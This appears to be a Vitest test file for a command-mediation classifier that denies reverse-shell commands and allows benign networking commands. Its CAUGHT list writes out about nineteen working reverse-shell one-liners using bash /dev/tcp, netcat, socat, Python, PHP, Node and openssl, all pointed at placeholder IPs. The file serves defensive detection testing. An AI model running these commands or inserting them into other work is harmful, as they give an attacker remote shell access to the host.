/** ReverseShell: shells for connections. */
import { describe, expect, it } from 'vitest';
import { reverseShell } from '../../../src/exec-mediation/classes/reverse-shell.js';
import { verdictOf } from '../support/mediate.js';

const CAUGHT = [
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  'nc -e /bin/sh 10.0.0.1 4444',
  'socat TCP:1.2.3.4:99 EXEC:sh',
  'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",99));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
  'php -r \'$s=fsockopen("1.2.3.4",99);exec("/bin/sh -i <&3 >&3 2>&3");\'',
  'nc 1.2.3.4 99 | sh',
  'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 1.2.3.4:99 > /tmp/s',
  '0<&196;exec 196<>/dev/tcp/1.2.3.4/99; sh <&196 >&196 2>&196',
  'node -e \'var n=require("net"),c=require("child_process").spawn("sh",[]);var s=new n.Socket();s.connect(99,"1.2.3.4",()=>{s.pipe(c.stdin)})\'',
  'exec 196<>/dev/tcp/1.2.3.4/9; sh <&196 >&196',
  'nc -c sh 1.2.3.4 9',
  "ncat --sh-exec 'bash -i' 1.2.3.4 9",
  'while :; do nc -l 9 | sh; done',
  "python3 -c \"import socket,os,pty;s=socket.create_connection(('1.2.3.4',9));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')\"",
  'bash <(nc 1.2.3.4 9)',
  'coproc nc 1.2.3.4 9; sh <&${COPROC[0]} >&${COPROC[1]}',
  'xterm -display 1.2.3.4:1',
  'bash -i 5<> /dev/tcp/1.2.3.4/9 0<&5 1>&5 2>&5',
  'exec 3<>/dev/tcp/1.2.3.4/9; while read -r c <&3; do eval "$c" >&3; done',
];
const CLEAN = [
  'nc -z localhost 80',
  'nc -l 8080',
  'echo a | nc -w1 localhost 8125',
  'ssh host',
  'telnet localhost 25',
  'socat - TCP:localhost:80',
  'openssl s_client -connect x.example:443',
  'python3 -c "import socket; print(socket.gethostname())"',
  'curl https://x.example',
  'echo "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"',
  'echo hi > /dev/tcp/localhost/80',
];

describe('ReverseShell', () => {
  it('has its tier, a description and a source (F-121)', () => {
    expect(reverseShell).toMatchObject({ name: 'ReverseShell', tier: 'critical' });
    expect(reverseShell.description.length).toBeGreaterThan(40);
    expect(reverseShell.source).toContain('Operator Handbook');
  });

  it.each(CAUGHT)('catches %j', (command) => {
    expect(verdictOf(command)).toMatchObject({ class: 'ReverseShell', decision: 'deny' });
  });

  it.each(CLEAN)('leaves alone %j', (command) => {
    expect(verdictOf(command)).toMatchObject({ class: 'Benign', decision: 'allow' });
  });
});
